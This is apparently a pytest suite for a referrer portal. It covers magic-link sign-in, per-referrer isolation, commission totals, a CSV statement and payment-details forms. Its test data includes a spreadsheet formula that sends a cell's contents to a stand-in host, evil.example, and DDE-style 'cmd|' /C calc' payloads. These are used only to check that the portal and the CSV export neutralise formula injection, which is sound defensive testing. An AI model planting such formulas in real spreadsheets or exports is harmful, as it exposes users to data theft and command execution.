"""The referrer portal (`/me`), in process over a real database filled with known referrals and
a real SMTP server on loopback that receives the sign-in links.

The referrals are walked through the one transition table (`apply_action`) at chosen instants
and recorded the way the workflow records them (`save_referral`; `save_commission` with its
ledger lines), so the dates, amounts and totals below are worked out by hand from `known`.
"""

from __future__ import annotations

import asyncio
import re
import time
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from html.parser import HTMLParser
from types import SimpleNamespace
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import pytest
import pytest_asyncio
from fastapi import FastAPI
from sqlalchemy.engine import Engine
from sqlmodel import Session, select

from activities import receipts as receipts_log
from activities.db import PayoutDocumentRow, SignInLinkRow
from activities.ledger import Balance, balances, save_commission
from activities.payees import accept_mandate, load_payee, save_payee
from activities.records import save_referral
from core.links import status_token
from core.payees import MANDATE_VERSION, MandateAcceptance, PayeeProfile
from devstack.factories import referral_input
from devstack.servers import MailSink
from devstack.settings import SETTINGS
from devstack.web import csrf_of, use_sign_in_link
from starter.spreadsheet import FORMULA_STARTS, spreadsheet_text
from starter.web import create_app, signin
from starter.web.signin import PRIVATE, REFERRER
from tests.conftest import in_process
from workflows.models.ledger import CommissionRecord
from workflows.models.program import ProgramRules
from workflows.models.referral import ReferralRecord, ReferralState, StaffAction
from workflows.models.values import Action
from workflows.transitions import apply_action, commission_lines, initial_state

KEY = "portal-test-secret"
ZONE = ZoneInfo("Europe/Paris")  # program.yaml's calendar
EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Details")'


def utc(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


@dataclass
class Referrers:
    claire: str
    bob: str


def walk(
    engine: Engine,
    rules: ProgramRules,
    referral_id: str,
    email: str,
    received: str,
    steps: list[tuple[str, Action, dict[str, Any]]],
    **changes: Any,
) -> None:
    """Record a referral received at `received`, then moved by each `(at, action, options)`."""
    given = referral_input(
        rules,
        referral_id,
        utc(received),
        **{
            "referrer.email": email,
            "prospect.website": f"https://{referral_id.lower()}.example",
            **changes,
        },
    )
    state = initial_state(given)
    for at, action, options in steps:
        request = StaffAction(action=action, actor="desk-anna", **options)
        new = apply_action(state, request, rules, utc(at))
        assert isinstance(new, ReferralState), new
        if action is Action.PAYOUT:  # as the workflow opens the clawback window
            new.clawback_until = utc(at) + timedelta(days=rules.clawback.days)
        if new.commission is not None:
            ledger = CommissionRecord.after(
                new,
                event=action.value,
                event_key=f"{referral_id}/{new.history[-1].seq}",
                at=utc(at),
                actor=request.actor,
                note=None,
            )
            ledger.lines = commission_lines(state, new, request)
            save_commission(engine, ledger)
        state = new
    save_referral(
        engine, ReferralRecord(state=state.model_copy(update={"history": []}), events=state.history)
    )


def known(engine: Engine, shipped_rules: ProgramRules) -> Referrers:
    """Claire's four referrals (EUR and USD commissions) and one of Bob's, under the shipped
    program (its clawback window) without its EUR cap, so a deal can be recorded in dollars.

    R-PORTAL0001 EUR: won on a 180 000 basis (commission 18 000), paid out, then a 30 000
      refund claws back 3 000.
    R-PORTAL0002 USD: won on 50 000 (5 000), customer paid, a 10 000 refund before payout
      claws back 1 000: 4 000 payable.
    R-PORTAL0003: approved, protected; its prospect's name is a spreadsheet formula.
    R-PORTAL0004 EUR: won on 90 000 (9 000), then cancelled: the commission is void.
    R-PORTAL0005: Bob's, won on 100 000 EUR; never on Claire's pages.
    """
    uncapped = shipped_rules.commission.model_copy(update={"cap": None})
    rules = shipped_rules.model_copy(update={"commission": uncapped})
    tag = uuid.uuid4().hex[:8]
    who = Referrers(claire=f"Claire.{tag}@Conseil-Martin.example", bob=f"bob.{tag}@partner.example")
    walk(engine, rules, "R-PORTAL0001", who.claire, "2026-09-01T08:00:00", [
        ("2026-09-02T23:30:00", Action.CONTACTED, {}),  # 3 September in Paris
        ("2026-09-04T09:00:00", Action.ACCEPT, {}),
        ("2026-09-10T09:00:00", Action.APPROVE, {}),
        ("2026-10-01T09:00:00", Action.WON,
         {"amount": Decimal("180000"), "currency": "EUR"}),
        ("2026-10-20T09:00:00", Action.PAYMENT,
         {"amount": Decimal("180000"), "reference": "INV-1"}),
        ("2026-10-25T09:00:00", Action.PAYOUT, {"reference": "VIR-1"}),
        ("2026-11-05T09:00:00", Action.REFUND,
         {"amount": Decimal("30000"), "reference": "AV-1", "reason": "credit note"}),
    ], **{"prospect.company": "Fromagerie Bellevue SAS"})  # fmt: skip
    walk(engine, rules, "R-PORTAL0002", who.claire, "2026-10-05T09:00:00", [
        ("2026-10-06T09:00:00", Action.CONTACTED, {}),
        ("2026-10-07T09:00:00", Action.ACCEPT, {}),
        ("2026-10-08T09:00:00", Action.APPROVE, {}),
        ("2026-11-02T09:00:00", Action.WON,
         {"amount": Decimal("50000"), "currency": "USD"}),
        ("2026-11-10T09:00:00", Action.PAYMENT,
         {"amount": Decimal("50000"), "reference": "INV-2"}),
        ("2026-11-12T09:00:00", Action.REFUND,
         {"amount": Decimal("10000"), "reference": "AV-2", "reason": "one site fewer"}),
    ], **{"prospect.company": "Harbor Logistics Inc.",
          "opportunity.product": "cloudsuite-distribution"})  # fmt: skip
    walk(engine, rules, "R-PORTAL0003", who.claire, "2026-11-16T10:00:00", [
        ("2026-11-17T10:00:00", Action.CONTACTED, {}),
        ("2026-11-18T10:00:00", Action.ACCEPT, {}),  # protected 180 days: to 17 May 2027
        ("2026-11-20T10:00:00", Action.APPROVE, {}),
    ], **{"prospect.company": EVIL, "opportunity.product": "hcm-talent"})  # fmt: skip
    walk(engine, rules, "R-PORTAL0004", who.claire, "2026-11-18T10:00:00", [
        ("2026-11-19T10:00:00", Action.CONTACTED, {}),
        ("2026-11-20T10:00:00", Action.ACCEPT, {}),
        ("2026-11-21T10:00:00", Action.APPROVE, {}),
        ("2026-11-23T10:00:00", Action.WON,
         {"amount": Decimal("90000"), "currency": "EUR"}),
        ("2026-11-24T10:00:00", Action.CANCEL, {"reason": "signed with a reseller"}),
    ], **{"prospect.company": "Atelier Dupré"})  # fmt: skip
    walk(engine, rules, "R-PORTAL0005", who.bob, "2026-11-02T10:00:00", [
        ("2026-11-03T10:00:00", Action.CONTACTED, {}),
        ("2026-11-04T10:00:00", Action.ACCEPT, {}),
        ("2026-11-05T10:00:00", Action.APPROVE, {}),
        ("2026-11-06T10:00:00", Action.WON,
         {"amount": Decimal("100000"), "currency": "EUR"}),
    ], **{"prospect.company": "Bob's Prospect GmbH"})  # fmt: skip
    return who


class Portal(HTMLParser):
    """What the portal shows: per referral row (by id) its stage and the text of its marked
    cells (`data-cell`, `data-date`, `data-amount`) and commission status; per currency its
    totals (`data-total`); the status link of each referral; the texts of a few elements."""

    MARKS = ("data-cell", "data-date", "data-amount", "data-total")
    ELEMENTS = (
        "h1",
        "referrals-caption",
        "signed-in",
        "statement-link",
        "no-commission",
        "owed-EUR",
        "owed-USD",
    )

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.rows: dict[str, dict[str, str]] = {}
        self.totals: dict[str, dict[str, str]] = {}
        self.links: dict[str, str] = {}
        self.texts: dict[str, str] = {}
        self._row: dict[str, str] | None = None
        self._reference: str | None = None
        # The elements whose text is being collected: (tag, where, key).
        self._open: list[tuple[str, dict[str, str], str]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = {name: value or "" for name, value in attrs}
        if tag == "tr" and found.get("id", "").startswith("referral-"):
            self._row = self.rows.setdefault(found["id"].removeprefix("referral-"), {})
            self._row["stage"] = found["data-stage"]
        elif tag == "tr" and "data-currency" in found:
            self._row = self.totals.setdefault(found["data-currency"], {})
        if self._row is not None:
            if tag == "a" and "href" in found:
                self._reference = found["href"]
            if "data-status" in found:
                self._row["status"] = found["data-status"]
            for mark in self.MARKS:
                if mark in found:
                    self._open.append((tag, self._row, found[mark]))
        for element in self.ELEMENTS:
            if element in (tag, found.get("id")):
                self._open.append((tag, self.texts, element))

    def handle_endtag(self, tag: str) -> None:
        if tag == "tr":
            self._row = None
        if self._open and self._open[-1][0] == tag:
            self._open.pop()

    def handle_data(self, data: str) -> None:
        if self._reference is not None:
            self.links[data.strip()] = self._reference
            self._reference = None
        if self._open:
            _, where, key = self._open[-1]
            # ASCII white space only: money and dates keep their no-break spaces.
            where[key] = re.sub(r"[ \t\r\n]+", " ", f"{where.get(key, '')} {data}").strip()


def app_for(engine: Engine, rules: ProgramRules, sink: MailSink, limit: str = "off") -> FastAPI:
    return create_app(rules=rules, engine=engine, key=KEY, smtp=sink.settings(), rate_limit=limit)


def client_for(app: FastAPI) -> httpx.AsyncClient:
    return in_process(app)


async def ask_for_link(client: httpx.AsyncClient, email: str, lang: str = "en") -> httpx.Response:
    form = await client.get(f"/me?lang={lang}")  # the sign-in form, which sets its CSRF cookie
    csrf = form.text.split('name="csrf" value="')[1].split('"')[0]
    return await client.post("/me/sign-in", data={"email": email, "lang": lang, "csrf": csrf})


async def new_link(client: httpx.AsyncClient, sink: MailSink, email: str, lang: str = "en") -> str:
    """Ask for a sign-in link for `email`; the link emailed (after the answer) in return."""
    seen = set(sink.sign_in_links(email))
    await ask_for_link(client, email, lang)
    deadline = time.monotonic() + 10
    while not (new := [link for link in sink.sign_in_links(email) if link not in seen]):
        assert time.monotonic() < deadline, f"no sign-in link reached {email}"
        await asyncio.sleep(0.05)
    [link] = new
    return link


async def sign_in(client: httpx.AsyncClient, sink: MailSink, email: str, lang: str = "en") -> None:
    opened = await use_sign_in_link(client, await new_link(client, sink, email, lang))
    assert opened.status_code == 303, opened.text


@pytest.fixture
def who(engine: Engine, shipped_rules: ProgramRules) -> Referrers:
    return known(engine, shipped_rules)


@pytest_asyncio.fixture
async def web(
    engine: Engine, shipped_rules: ProgramRules, mail_sink: MailSink
) -> AsyncIterator[httpx.AsyncClient]:
    async with client_for(app_for(engine, shipped_rules, mail_sink)) as client:
        yield client


# --- the figures -------------------------------------------------------------------------------


def test_balances_define_payable_from_the_ledger(engine: Engine, who: Referrers) -> None:
    """Payable is what the customer paid for and was not paid out, net of the clawbacks that
    lowered it; a clawback after payout is clawed back, not payable."""
    claire, bob = who.claire.lower(), who.bob
    d = Decimal
    assert balances(engine, referrer_email=claire) == [
        Balance(claire, "EUR", d("18000.0000"), d("3000.0000"), d("18000.0000"), d(0)),
        Balance(claire, "USD", d("5000.0000"), d("1000.0000"), d(0), d("4000.0000")),
    ]
    assert balances(engine, referrer_email=bob) == [
        Balance(bob, "EUR", d("10000.0000"), d(0), d(0), d(0)),
    ]


# --- signing in --------------------------------------------------------------------------------


async def test_known_and_unknown_addresses_get_the_same_answer(
    web: httpx.AsyncClient, mail_sink: MailSink, who: Referrers
) -> None:
    unknown = f"nobody-{uuid.uuid4().hex[:8]}@conseil-martin.example"
    for_unknown = await ask_for_link(web, unknown)
    link = await new_link(web, mail_sink, who.claire)
    for_known = await ask_for_link(web, who.claire)
    assert for_known.status_code == for_unknown.status_code == 200
    assert for_known.text == for_unknown.text
    assert link.startswith("/me/sign-in/") and link.endswith("?lang=en")
    await asyncio.sleep(0.3)
    assert mail_sink.sign_in_links(unknown) == []


async def test_the_link_signs_in_once_with_a_safe_cookie_and_sign_out_ends_it(
    web: httpx.AsyncClient, mail_sink: MailSink, who: Referrers
) -> None:
    link = await new_link(web, mail_sink, who.claire)
    opened = await use_sign_in_link(web, link)
    assert opened.status_code == 303 and opened.headers["location"] == "/me?lang=en"
    cookie = opened.headers["set-cookie"].lower()
    assert cookie.startswith(f"{REFERRER.cookie}=")
    for attribute in ("httponly", "samesite=lax", "path=/me"):
        assert attribute in cookie
    portal = await web.get("/me")
    assert portal.status_code == 200 and 'id="referrals"' in portal.text
    assert portal.headers["cache-control"] == "no-store"

    again = await use_sign_in_link(web, link)  # a second time: refused, still signed in
    assert again.status_code == 400 and 'id="problem"' in again.text

    signed_out = await web.post("/me/sign-out?lang=en", data={"csrf": csrf_of(portal.text)})
    assert signed_out.status_code == 303 and signed_out.headers["location"] == "/me?lang=en"
    after = await web.get("/me")
    assert after.status_code == 200
    assert 'id="referrals"' not in after.text and 'action="/me/sign-in"' in after.text
    statement = await web.get("/me/statement.csv?lang=en")
    assert statement.status_code == 303 and statement.headers["location"] == "/me?lang=en"


async def test_expired_and_forged_links_are_refused(
    web: httpx.AsyncClient, mail_sink: MailSink, who: Referrers, monkeypatch: pytest.MonkeyPatch
) -> None:
    fresh = await new_link(web, mail_sink, who.claire)
    with monkeypatch.context() as clock:  # opened 31 minutes after it was asked for
        later = time.time() + 31 * 60
        clock.setattr(signin, "time", SimpleNamespace(time=lambda: later))
        stale = await use_sign_in_link(web, fresh)
    path, _, query = fresh.partition("?")
    forged = f"{path[:-3]}{'AAA' if not path.endswith('AAA') else 'BBB'}?{query}"

    for refused, text in ((stale, "expired"), (await use_sign_in_link(web, forged), "not valid")):
        assert refused.status_code == 400
        assert text in refused.text and REFERRER.cookie not in refused.headers.get("set-cookie", "")
    assert 'id="referrals"' not in (await web.get("/me")).text
    assert (await use_sign_in_link(web, fresh)).status_code == 303  # the link is unspent


async def test_asking_for_links_is_rate_limited(
    engine: Engine, shipped_rules: ProgramRules, mail_sink: MailSink, who: Referrers
) -> None:
    async with client_for(app_for(engine, shipped_rules, mail_sink, "3/minute")) as client:
        answers = [await ask_for_link(client, who.claire) for _ in range(4)]
    assert [a.status_code for a in answers] == [200, 200, 200, 429]
    assert int(answers[3].headers["retry-after"]) >= 1


# --- the portal --------------------------------------------------------------------------------


async def test_the_portal_lists_the_referrers_referrals_and_totals(
    web: httpx.AsyncClient, mail_sink: MailSink, who: Referrers
) -> None:
    await sign_in(web, mail_sink, who.claire)
    page = await web.get("/me?lang=en")
    shown = Portal(page.text)

    # The site's policy holds: no script (none is needed), no inline style.
    assert "style-src 'self'" in page.headers["content-security-policy"]
    assert "<script" not in page.text and " style=" not in page.text
    assert shown.texts["h1"] == "Your referrals"
    assert shown.texts["signed-in"] == f"Signed in as {who.claire.lower()}."
    # Newest first, Claire's only: not Bob's R-PORTAL0005.
    assert list(shown.rows) == ["R-PORTAL0004", "R-PORTAL0003", "R-PORTAL0002", "R-PORTAL0001"]
    assert shown.texts["referrals-caption"].startswith("4 referrals, newest first")
    assert "Bob" not in page.text
    assert shown.rows["R-PORTAL0001"] == {
        "stage": "commission_paid",
        "prospect": "Fromagerie Bellevue SAS",
        "product": "CloudSuite Financials",
        "step": "Commission paid",
        "submitted": "September 1, 2026",
        "contacted": "September 3, 2026",  # 23:30 UTC on the 2nd is the 3rd in Paris
        "won": "October 1, 2026",
        "commission": "€18,000.00",
        "status": "paid",
        "paid": "Paid: €18,000.00",
        "clawed_back": "Clawed back: €3,000.00",
    }
    assert shown.rows["R-PORTAL0002"] == {
        "stage": "commission_payable",
        "prospect": "Harbor Logistics Inc.",
        "product": "CloudSuite Distribution",
        "step": "Customer paid, commission payable",
        "submitted": "October 5, 2026",
        "contacted": "October 6, 2026",
        "won": "November 2, 2026",
        "commission": "$5,000.00",
        "status": "payable",
        "clawed_back": "Clawed back: $1,000.00",
    }
    # Protected 180 days from acceptance (18 November 2026, 11:00 in Paris): to 17 May 2027.
    assert shown.rows["R-PORTAL0003"] == {
        "stage": "approved",
        "prospect": EVIL,  # shown as typed, as text
        "product": "HCM Talent Management",
        "step": "Approved, in the sales cycle",
        "submitted": "November 16, 2026",
        "contacted": "November 17, 2026",
        "protected_until": "May 17, 2027",
    }
    assert shown.rows["R-PORTAL0004"]["status"] == "void"
    assert "protected_until" not in shown.rows["R-PORTAL0004"]  # won, then cancelled
    assert shown.totals == {
        "EUR": {
            "earned": "€18,000.00",
            "payable": "€0.00",
            "paid": "€18,000.00",
            "clawed_back": "€3,000.00",
        },
        "USD": {
            "earned": "$5,000.00",
            "payable": "$4,000.00",
            "paid": "$0.00",
            "clawed_back": "$1,000.00",
        },
    }
    # Paid 18 000, then 3 000 clawed back: Claire owes it, to be netted on her next payout.
    assert shown.texts["owed-EUR"] == (
        "You owe €3,000.00 from commissions clawed back after they were paid: it will be "
        "deducted from your next commission payment."
    )
    assert "owed-USD" not in shown.texts
    # Each row opens its referral's status page, which shows that referral.
    link = shown.links["R-PORTAL0003"]
    assert link == f"/status/{status_token('R-PORTAL0003', KEY)}?lang=en"
    status = await web.get(link)
    assert status.status_code == 200 and "R-PORTAL0003" in status.text


async def test_bob_sees_only_his_referral(
    web: httpx.AsyncClient, mail_sink: MailSink, who: Referrers
) -> None:
    await sign_in(web, mail_sink, who.bob)
    shown = Portal((await web.get("/me?lang=en")).text)
    assert list(shown.rows) == ["R-PORTAL0005"]
    assert list(shown.totals) == ["EUR"]
    assert shown.totals["EUR"]["earned"] == "€10,000.00"


async def test_a_referrer_without_commission_yet(
    web: httpx.AsyncClient, mail_sink: MailSink, engine: Engine, shipped_rules: ProgramRules
) -> None:
    email = f"new.{uuid.uuid4().hex[:8]}@partner.example"
    walk(engine, shipped_rules, "R-PORTAL0006", email, "2026-11-25T10:00:00", [])
    await sign_in(web, mail_sink, email)
    shown = Portal((await web.get("/me?lang=en")).text)
    assert shown.rows == {
        "R-PORTAL0006": {
            "stage": "submitted",
            "prospect": "Fromagerie Bellevue SAS",
            "product": "CloudSuite Financials",
            "step": "Received, awaiting contact",
            "submitted": "November 25, 2026",
        }
    }
    assert shown.totals == {}
    assert shown.texts["no-commission"].startswith("No commission yet")
    statement = (await web.get("/me/statement.csv")).content.decode("utf-8-sig")
    assert statement.endswith("\r\n\r\ntotal,currency,earned,payable,paid,clawed_back\r\n")


async def test_the_portal_in_french_and_by_the_browsers_language(
    web: httpx.AsyncClient, mail_sink: MailSink, who: Referrers
) -> None:
    await sign_in(web, mail_sink, who.claire, lang="fr")
    french = await web.get("/me", headers={"accept-language": "fr-FR,fr;q=0.9,en;q=0.5"})
    shown = Portal(french.text)
    assert '<html lang="fr">' in french.text
    assert shown.texts["h1"] == "Vos recommandations"
    assert shown.texts["referrals-caption"].startswith("4 recommandations, de la plus récente")
    assert shown.rows["R-PORTAL0001"]["contacted"] == "3 septembre 2026"
    assert shown.rows["R-PORTAL0001"]["commission"] == "18\u202f000,00\xa0€"
    assert shown.rows["R-PORTAL0001"]["clawed_back"] == "Reprise : 3\u202f000,00\xa0€"
    assert shown.totals["USD"]["payable"] == "4\u202f000,00\xa0$US"
    assert shown.rows["R-PORTAL0002"]["step"] == "Le client a payé, commission à verser"
    assert 'href="/me?lang=en"' in french.text  # the switch to English

    english = await web.get("/me?lang=en", headers={"accept-language": "fr-FR"})
    assert '<html lang="en">' in english.text
    assert Portal(english.text).texts["h1"] == "Your referrals"


# --- the CSV statement -------------------------------------------------------------------------


async def test_the_csv_statement(
    web: httpx.AsyncClient, mail_sink: MailSink, who: Referrers
) -> None:
    await sign_in(web, mail_sink, who.claire)
    shown = Portal((await web.get("/me?lang=en")).text)
    assert shown.texts["statement-link"] == "Download the statement (CSV)"
    before = datetime.now(UTC).astimezone(ZONE).date().isoformat()
    download = await web.get("/me/statement.csv?lang=en")
    after = datetime.now(UTC).astimezone(ZONE).date().isoformat()  # midnight may pass between

    assert download.status_code == 200
    assert download.headers["content-type"] == "text/csv; charset=utf-8"
    assert download.headers["content-disposition"] in {
        f'attachment; filename="referrals-statement-{day}.csv"' for day in (before, after)
    }
    assert download.headers["cache-control"] == "no-store"
    assert download.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, for Excel
    assert download.content.decode("utf-8-sig") == "\r\n".join(
        [
            "reference,submitted,prospect,product,stage,contacted,protected_until,won,"
            "commission,currency,commission_status,paid,clawed_back",
            "R-PORTAL0004,2026-11-18,Atelier Dupré,CloudSuite Financials,cancelled,"
            "2026-11-19,,2026-11-23,9000.00,EUR,void,0.00,0.00",
            # The formula is neutralised: a quote first, so a spreadsheet shows it as text.
            'R-PORTAL0003,2026-11-16,"\'=HYPERLINK(""https://evil.example/?x=""&A1,'
            '""Details"")",HCM Talent Management,approved,2026-11-17,2027-05-17,,,,,,',
            "R-PORTAL0002,2026-10-05,Harbor Logistics Inc.,CloudSuite Distribution,"
            "commission_payable,2026-10-06,,2026-11-02,5000.00,USD,payable,0.00,1000.00",
            "R-PORTAL0001,2026-09-01,Fromagerie Bellevue SAS,CloudSuite Financials,"
            "commission_paid,2026-09-03,,2026-10-01,18000.00,EUR,paid,18000.00,3000.00",
            "",
            "total,currency,earned,payable,paid,clawed_back",
            "total,EUR,18000.00,0.00,18000.00,3000.00",
            "total,USD,5000.00,4000.00,0.00,1000.00",
            "",
        ]
    )


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert spreadsheet_text(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
    assert spreadsheet_text(f"Acme {start} Co") == f"Acme {start} Co"


@pytest.mark.parametrize("amount", ["-9000.00", "+12", "-0.5"])
def test_a_signed_amount_stays_a_number(amount: str) -> None:
    assert spreadsheet_text(amount) == amount
    assert spreadsheet_text(f"{amount}+cmd|' /C calc'!A0") == f"'{amount}+cmd|' /C calc'!A0"


# --- how the referrer is paid ------------------------------------------------------------------


def row_of(page: str, referral_id: str) -> str:
    return page.split(f'id="referral-{referral_id}"', 1)[1].split("</tr>", 1)[0]


def payout_of(page: str, referral_id: str) -> str:
    row = row_of(page, referral_id)
    found = re.search(r'data-payout="(\w+)">(.*?)</span>', row, re.S)
    assert found is not None, row
    return f"{found[1]}: {' '.join(found[2].split())}"


async def test_the_portal_says_when_a_commission_is_paid_or_why_it_waits_and_its_statements(
    web: httpx.AsyncClient, mail_sink: MailSink, who: Referrers, engine: Engine
) -> None:
    await sign_in(web, mail_sink, who.claire)
    page = (await web.get("/me?lang=en")).text
    assert payout_of(page, "R-PORTAL0002") == "held: Waiting: we need your payment details"
    assert 'id="no-payee"' in page and "data-payout" not in row_of(page, "R-PORTAL0001")  # paid

    claire = who.claire.lower()
    details = profile_for(claire)
    save_payee(engine, details, "finance", utc("2026-11-01T09:00:00"))
    french = (await web.get("/me?lang=fr")).text
    assert payout_of(french, "R-PORTAL0002") == (
        "held: En attente : nous avons besoin de votre mandat d'autofacturation"
    )
    mandate = MandateAcceptance(
        version=MANDATE_VERSION, language="en", text_sha256="ab" * 32,
        accepted_at=utc("2026-11-03T09:00:00"), accepted_by=claire, channel="portal",
    )  # fmt: skip
    accept_mandate(engine, claire, mandate, utc("2026-11-03T09:00:00"))
    page = (await web.get("/me?lang=en")).text
    # Payable on 10 November, held 30 days: from 10 December (or today, if later).
    first = max(date(2026, 12, 10), datetime.now(ZONE).date())
    assert payout_of(page, "R-PORTAL0002") == (
        f"expected: To be paid in the first payment run from {first:%B} {first.day}, {first.year}"
    )
    assert "Accepted on November 3, 2026 (MANDAT-" in page
    assert "DE89 •••• 3000" in page and details.iban not in page

    with Session(engine) as session:
        for number, owner in (("AF-2026-000009", claire), ("AF-2026-000010", who.bob.lower())):
            session.add(
                PayoutDocumentRow(
                    id=f"run-x/statement/{owner}", run_id="run-x", kind="statement",
                    number=number, payee_email=owner, filename=f"{number}.pdf",
                    media_type="application/pdf", content=b"%PDF-1.4 " + number.encode(),
                    sha256="0" * 64, created_at=utc("2026-12-01T09:00:00"),
                )
            )  # fmt: skip
        session.commit()
    page = (await web.get("/me?lang=en")).text
    assert 'data-number="AF-2026-000009"' in page and "AF-2026-000010" not in page
    mine = await web.get("/me/documents/AF-2026-000009.pdf")
    assert mine.status_code == 200 and mine.content == b"%PDF-1.4 AF-2026-000009"
    assert mine.headers["cache-control"] == PRIVATE["Cache-Control"]
    assert (await web.get("/me/documents/AF-2026-000010.pdf")).status_code == 404  # Bob's


def profile_for(email: str) -> PayeeProfile:
    return PayeeProfile.model_validate(
        {
            "email": email, "legal_name": "Conseil Martin GmbH", "kind": "company",
            "country": "DE", "address": "Unter den Linden 1, 10117 Berlin",
            "vat_id": "DE136695976", "vat_regime": "eu_reverse_charge",
            "iban": "DE89370400440532013000", "language": "en",
        }
    )  # fmt: skip


async def test_the_referrer_gives_payment_details_and_accepts_the_mandate_in_the_portal(
    web: httpx.AsyncClient, mail_sink: MailSink, who: Referrers, engine: Engine
) -> None:
    await sign_in(web, mail_sink, who.claire)
    claire = who.claire.lower()
    page = await web.get("/me/payee?lang=en")
    assert page.status_code == 200 and 'id="payee-form"' in page.text
    form = {
        "csrf": csrf_of(page.text), "lang": "en", "legal_name": "Conseil Martin GmbH",
        "kind": "company", "country": "DE", "address": "Unter den Linden 1, 10117 Berlin",
        "vat_regime": "eu_reverse_charge", "vat_id": "DE136695976",
        "iban": "DE89 3704 0044 0532 0130 01", "language": "en",
    }  # fmt: skip
    wrong = await web.post("/me/payee", data=form)
    assert wrong.status_code == 422 and 'id="iban-error"' in wrong.text
    assert 'value="Conseil Martin GmbH"' in wrong.text  # what was typed stays
    assert load_payee(engine, claire) is None
    saved = await web.post("/me/payee", data={**form, "iban": "DE89 3704 0044 0532 0130 00"})
    assert saved.status_code == 303, saved.text
    profile = load_payee(engine, claire)
    assert profile is not None and profile.iban == "DE89370400440532013000"
    assert profile.bic == "COBADEFFXXX" and not profile.mandate_in_force

    page = await web.get("/me/payee?lang=en")
    assert "Paid to DE89 •••• 3000" in page.text and "Self-billing mandate (version" in page.text
    mandate = re.search(r'name="mandate_sha256" value="(\w+)"', page.text)
    assert mandate is not None
    unticked = {"csrf": csrf_of(page.text), "lang": "en", "mandate_sha256": mandate[1]}
    assert (await web.post("/me/payee/mandate", data=unticked)).status_code == 422
    stale = {**unticked, "accept": "yes", "mandate_sha256": "0" * 64}
    assert (
        "has changed since you opened it" in (await web.post("/me/payee/mandate", data=stale)).text
    )
    accepted = await web.post("/me/payee/mandate", data={**unticked, "accept": "yes"})
    assert accepted.status_code == 303
    profile = load_payee(engine, claire)
    assert profile is not None and profile.mandate is not None and profile.mandate_in_force
    assert (profile.mandate.channel, profile.mandate.accepted_by) == ("portal", claire)
    assert profile.mandate.text_sha256 == mandate[1]

    # Just signed in: the bank details may change, and the address on file is told.
    page = await web.get("/me/payee?lang=en")
    new_account = {**form, "csrf": csrf_of(page.text), "iban": "FR7630004000031234567890143",
                   "bic": ""}  # fmt: skip
    before = len(mail_sink.messages())
    assert (await web.post("/me/payee", data=new_account)).status_code == 303
    changed = load_payee(engine, claire)
    assert changed is not None and changed.iban == "FR7630004000031234567890143"
    assert changed.iban_changed_at is not None and changed.mandate == profile.mandate
    await eventually_mail(mail_sink, before, claire)
    notice = [m for m in mail_sink.messages()[before:] if str(m["To"]).lower() == claire][-1]
    body = notice.get_body(("plain",))
    assert body is not None and "DE89 •••• 3000" in body.get_content()

    # An hour later, a change of account needs a new sign-in link.
    with Session(engine) as session:
        for link in session.exec(select(SignInLinkRow)):
            link.used_at = link.used_at - timedelta(hours=1)
            session.add(link)
        session.commit()
    page = await web.get("/me/payee?lang=fr")
    late = {**form, "csrf": csrf_of(page.text), "iban": "DE89370400440532013000", "lang": "fr"}
    refused = await web.post("/me/payee", data=late)
    assert refused.status_code == 403 and "reconnectez-vous avec un nouveau lien" in refused.text
    still = load_payee(engine, claire)
    assert still is not None and still.iban == "FR7630004000031234567890143"


async def eventually_mail(sink: MailSink, before: int, to: str) -> None:
    deadline = time.monotonic() + 10
    while not any(str(m["To"]).lower() == to for m in sink.messages()[before:]):
        assert time.monotonic() < deadline, f"no email reached {to}"
        await asyncio.sleep(0.05)


async def test_the_portal_links_each_registration_receipt(
    web: httpx.AsyncClient, engine: Engine, mail_sink: MailSink, who: Referrers
) -> None:
    """A referral registered with a receipt links to the referrer's copy; one registered
    before receipts links to none."""
    registration = receipts_log.Registration.new(
        "Test program", {}, datetime(2026, 11, 9, tzinfo=UTC), "portal3.example", who.claire
    )
    receipts_log.configure(SETTINGS.key_ring())
    with Session(engine) as session:
        registered = receipts_log.register(session, "R-PORTAL0003", registration)
        session.commit()
    await sign_in(web, mail_sink, who.claire)
    portal = (await web.get("/me?lang=en")).text
    row = portal.split('id="referral-R-PORTAL0003"', 1)[1].split("</tr>", 1)[0]
    link = row.split('<a class="receipt" href="', 1)[1].split('"', 1)[0]
    got = await web.get(link)
    assert got.status_code == 200 and got.json() == {
        **registered,
        "disclosures": registration.disclosures,
    }
    other = portal.split('id="referral-R-PORTAL0001"', 1)[1].split("</tr>", 1)[0]
    assert 'class="receipt"' not in other
